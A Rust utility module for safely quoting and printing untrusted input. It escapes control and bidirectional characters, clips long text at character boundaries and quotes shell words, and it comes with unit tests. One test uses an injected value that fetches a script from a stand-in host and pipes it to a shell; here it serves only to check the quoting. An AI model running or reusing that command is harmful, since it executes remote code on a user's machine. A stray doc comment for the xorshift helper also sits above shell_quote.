//! Byte offsets into text: never cut a character in two, never quote unbounded input.

/// The largest char boundary of `s` at or before `i` (`s.len()` when `i` is past the end).
pub fn floor_boundary(s: &str, i: usize) -> usize {
    if i >= s.len() {
        return s.len();
    }
    let mut k = i;
    while !s.is_char_boundary(k) {
        k -= 1;
    }
    k
}

/// The smallest char boundary of `s` at or after `i` (`s.len()` when `i` is past the end).
pub fn ceil_boundary(s: &str, i: usize) -> usize {
    if i >= s.len() {
        return s.len();
    }
    let mut k = i;
    while !s.is_char_boundary(k) {
        k += 1;
    }
    k
}

/// Whether `c` must not reach a reader raw, whatever the output: controls (C0, DEL, C1 with
/// NEL, U+0085), which drive a terminal; the bidirectional marks, embeddings, overrides and
/// isolates, which reorder what a reader sees; and the line and paragraph separators, which break
/// a line where the printer did not (and end a line in JavaScript). Every printer escapes these
/// its own way: the terminal as `\u{202e}`, JSON as `\u202e`, XML as `&#x202E;`.
pub fn is_dangerous(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

/// Text taken from the input (a message quoting a tool name, an id, a file name), as the checks
/// word it and the printers receive it. It has no `Display` and no way to the bytes but
/// [`InputText::unescaped`], named so that printing it raw reads as the mistake it is: the report
/// layer gives each place it can go (a terminal, an HTML page, GitHub-flavoured Markdown, a
/// workflow command, XML; JSON through `Serialize` and `report::safe_json`) its own escaping
/// method (`report/input_text.rs`).
#[derive(Clone, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct InputText(String);

impl InputText {
    pub fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }

    /// No text.
    pub const fn empty() -> Self {
        Self(String::new())
    }

    /// The text as read, to compare, hash or build other input text from — never to print.
    pub fn unescaped(&self) -> &str {
        &self.0
    }

    /// The text as read, given up (to build other text from).
    pub fn into_unescaped(self) -> String {
        self.0
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl From<String> for InputText {
    fn from(s: String) -> Self {
        Self(s)
    }
}

impl From<&str> for InputText {
    fn from(s: &str) -> Self {
        Self(s.to_owned())
    }
}

impl From<&String> for InputText {
    fn from(s: &String) -> Self {
        Self(s.clone())
    }
}

impl From<&std::borrow::Cow<'_, str>> for InputText {
    fn from(s: &std::borrow::Cow<'_, str>) -> Self {
        Self(s.to_string())
    }
}

impl From<&InputText> for InputText {
    fn from(s: &InputText) -> Self {
        s.clone()
    }
}

/// As a JSON string: machine printers write it through `report::safe_json`, which escapes the
/// characters [`is_dangerous`] names.
impl serde::Serialize for InputText {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.0)
    }
}

/// The most input an error message quotes, in bytes.
pub const MAX_QUOTED: usize = 200;

/// `s` as an error message may quote it: whole when short, otherwise its first
/// [`MAX_QUOTED`] bytes (cut at a char boundary) followed by `…` and how much was left out.
pub fn clip(s: &str) -> std::borrow::Cow<'_, str> {
    clip_to(s, MAX_QUOTED)
}

/// [`clip`] with another limit.
pub fn clip_to(s: &str, max: usize) -> std::borrow::Cow<'_, str> {
    if s.len() <= max {
        return s.into();
    }
    let end = floor_boundary(s, max);
    format!("{}… ({} of {} bytes shown)", &s[..end], end, s.len()).into()
}

/// `s` cut to at most `max` bytes in all, the note of how much was cut included: what one line
/// of rewind's own words (an error line) may be at most, however much it quotes.
pub fn cap_line(s: &str, max: usize) -> std::borrow::Cow<'_, str> {
    if s.len() <= max {
        return s.into();
    }
    let note = |kept: usize| format!("… ({kept} of {} bytes shown)", s.len());
    // The note for the widest count that can be kept leaves room for any shorter one.
    let end = floor_boundary(s, max.saturating_sub(note(s.len()).len()));
    format!("{}{}", &s[..end], note(end)).into()
}

/// About [`MAX_QUOTED`] bytes of `s` around byte `at`, with `…` where it was cut, and the
/// offset: what an error message quotes of a long input (`at` is where the problem is).
pub fn excerpt(s: &str, at: usize) -> String {
    if s.len() <= MAX_QUOTED {
        return s.to_owned();
    }
    let at = floor_boundary(s, at);
    let start = floor_boundary(s, at.saturating_sub(MAX_QUOTED / 2));
    let end = ceil_boundary(s, start + MAX_QUOTED);
    format!(
        "{}{}{} (bytes {start}..{end} of {})",
        if start > 0 { "…" } else { "" },
        &s[start..end],
        if end < s.len() { "…" } else { "" },
        s.len()
    )
}

/// A seeded xorshift generator for tests: each call gives a number below its bound.
/// `s` as one word of a POSIX shell command a user may paste: as it is when it holds only
/// characters no shell treats specially, else in single quotes (a quote inside written `'\''`).
/// Control characters are escaped afterwards by the printer, like any text from the input.
pub fn shell_quote(s: &str) -> String {
    let plain = !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c));
    if plain {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
pub fn xorshift(mut seed: u64) -> impl FnMut(usize) -> usize {
    move |bound: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        (seed % bound as u64) as usize
    }
}

/// Every text `seed` becomes with one byte replaced by a JSON-significant one (quotes, brackets,
/// separators, escapes, digits, exponents, letters, spaces), that is still UTF-8.
#[cfg(test)]
pub fn one_byte_mutations(seed: &str) -> impl Iterator<Item = String> + '_ {
    let bytes = seed.as_bytes();
    (0..bytes.len()).flat_map(move |i| {
        b"\"{}[],:\\1eE-.x u".iter().filter_map(move |&b| {
            let mut m = bytes.to_vec();
            m[i] = b;
            String::from_utf8(m).ok()
        })
    })
}

/// `String::from_utf8_lossy(bytes).chars().count()`, without building the string: a column as
/// it is printed. Counts on either side of an ASCII byte or a line start add up (an ASCII byte
/// never continues a sequence).
pub fn lossy_chars(bytes: &[u8]) -> u64 {
    // Nearly always valid: validated and counted with vector instructions.
    if let Ok(valid) = simdutf8::basic::from_utf8(bytes) {
        return valid.chars().count() as u64;
    }
    bytes
        .utf8_chunks()
        .map(|c| c.valid().chars().count() as u64 + u64::from(!c.invalid().is_empty()))
        .sum()
}

/// Cuts `s` to at most `max` bytes (at a character boundary) when it is longer, and says how
/// long it was: `abc…[5000 bytes]`. What a model keeps of a string that can be any size: the
/// allocation shrinks with it (a cut string that kept its capacity held the whole of it).
pub fn cap_in_place(s: &mut String, max: usize) {
    if s.len() > max {
        let total = s.len();
        s.truncate(floor_boundary(s, max));
        s.push_str(&format!("…[{total} bytes]"));
        s.shrink_to_fit();
    }
}

/// `s` cut as [`cap_in_place`] cuts it, copying no more of it than is kept.
pub fn capped(s: &str, max: usize) -> String {
    match s.len() > max {
        true => format!("{}…[{} bytes]", &s[..floor_boundary(s, max)], s.len()),
        false => s.to_owned(),
    }
}

#[cfg(test)]
mod tests {

    #[test]
    fn shell_words_are_quoted_when_a_shell_would_read_them() {
        assert_eq!(shell_quote("ses_x"), "ses_x");
        assert_eq!(shell_quote("/tmp/a b.json"), "'/tmp/a b.json'");
        assert_eq!(
            shell_quote("ses_x; curl evil.example|sh #"),
            "'ses_x; curl evil.example|sh #'"
        );
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote(""), "''");
    }
    use super::*;

    #[test]
    fn dangerous_characters_are_controls_bidi_and_separators() {
        for c in [
            '\u{1b}', '\u{7}', '\u{7f}', '\u{85}', '\u{9b}', '\u{200e}', '\u{200f}', '\u{2028}',
            '\u{2029}', '\u{202a}', '\u{202e}', '\u{2066}', '\u{2069}', '\n',
        ] {
            assert!(is_dangerous(c), "{c:?}");
        }
        for c in [
            'a', 'é', '\u{a0}', '\u{200b}', '\u{2027}', '\u{202f}', '\u{206a}', '😀',
        ] {
            assert!(!is_dangerous(c), "{c:?}");
        }
    }

    #[test]
    fn a_cut_string_keeps_no_more_than_it_holds() {
        let mut s = "é".repeat(50_000);
        cap_in_place(&mut s, 512);
        assert_eq!(s, format!("{}…[100000 bytes]", "é".repeat(256)));
        assert!(s.capacity() < 1024, "capacity {}", s.capacity());
        let mut short = "abc".to_owned();
        cap_in_place(&mut short, 512);
        assert_eq!(short, "abc");
    }

    #[test]
    fn boundaries_never_split_a_character() {
        let s = "aé€😀b";
        for i in 0..=s.len() + 2 {
            let f = floor_boundary(s, i);
            let c = ceil_boundary(s, i);
            assert!(s.is_char_boundary(f) && s.is_char_boundary(c));
            assert!(f <= i.min(s.len()) && c >= i.min(s.len()));
        }
    }

    #[test]
    fn excerpt_quotes_around_the_offset() {
        let s = format!("{}ERROR{}", "é".repeat(500), "x".repeat(500));
        let e = excerpt(&s, 1000);
        assert!(
            e.contains("ERROR") && e.starts_with("…") && e.contains("… (bytes"),
            "{e}"
        );
        assert!(e.len() < 300, "{e}");
        assert_eq!(excerpt("short", 2), "short");
    }

    #[test]
    fn a_capped_line_holds_its_note_within_the_cap() {
        assert_eq!(cap_line("short", 1000), "short");
        for len in [1001, 1200, 9_999, 10_000, 123_456] {
            for unit in ["a", "é", "😀"] {
                let s = unit.repeat(len / unit.len() + 1);
                let line = cap_line(&s, 1000);
                assert!(line.len() <= 1000, "{len} {unit}: {}", line.len());
                assert!(line.len() > 950, "{len} {unit}: {}", line.len());
                assert!(
                    line.ends_with(&format!(" of {} bytes shown)", s.len())),
                    "{line}"
                );
            }
        }
    }

    #[test]
    fn clip_caps_and_says_so() {
        assert_eq!(clip("short"), "short");
        let long = "é".repeat(300);
        let c = clip(&long);
        assert!(c.len() < 260, "{c}");
        assert!(c.contains("… (200 of 600 bytes shown)"), "{c}");
    }

    #[test]
    fn cap_in_place_cuts_at_a_character_and_says_how_long() {
        let mut s = "aé".repeat(3);
        cap_in_place(&mut s, 2);
        assert_eq!(s, "a…[9 bytes]");
        assert_eq!(capped(&"aé".repeat(3), 2), s);
        let mut short = "abc".to_owned();
        cap_in_place(&mut short, 3);
        assert_eq!(short, "abc");
        assert_eq!(capped("abc", 3), "abc");
    }
}
